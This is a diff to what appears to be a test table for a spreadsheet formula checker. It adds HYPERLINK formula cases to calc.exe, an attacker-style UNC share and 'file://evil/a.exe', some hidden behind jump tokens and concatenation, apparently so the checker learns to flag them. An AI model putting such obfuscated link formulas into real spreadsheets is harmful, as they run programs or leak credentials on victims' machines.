@@ -26,11 +26,23 @@ const calls: [what: string, ...formula: Buffer[]][] = [
 /** Links to programs and servers, also to what is put together or chosen. */
 const links = (letters: typeof text): typeof calls => {
   const page = letters('https://example.com/');
+  const toLink = funcVar(functions.hyperlink, 1);
   return [
     ['a link to a program', letters('c:\\windows\\system32\\calc.exe'), funcVar(functions.hyperlink, 1)],
     ['a link to a server', letters('\\\\evil.example\\s'), letters('x'), funcVar(functions.hyperlink, 2)],
     ['a link in two pieces', letters('c:\\wind'), letters('ows'), concat, funcVar(functions.hyperlink, 1)],
     ['a chosen link', page, letters('a.exe'), funcVar(functions.choose, 2), funcVar(functions.hyperlink, 1)],
+    [
+      'a link to what is jumped to',
+      letters(''),
+      letters('file://evil/a.exe'),
+      jump(page.length),
+      page,
+      toLink,
+      concat,
+      concat,
+    ],
+    ['a link with a jump inside', page, letters('file://evil/a.exe'), jump(concat.length), concat, toLink],
     ['a link that begins with a number', int(1), page, concat, funcVar(functions.hyperlink, 1)],
   ];
 };
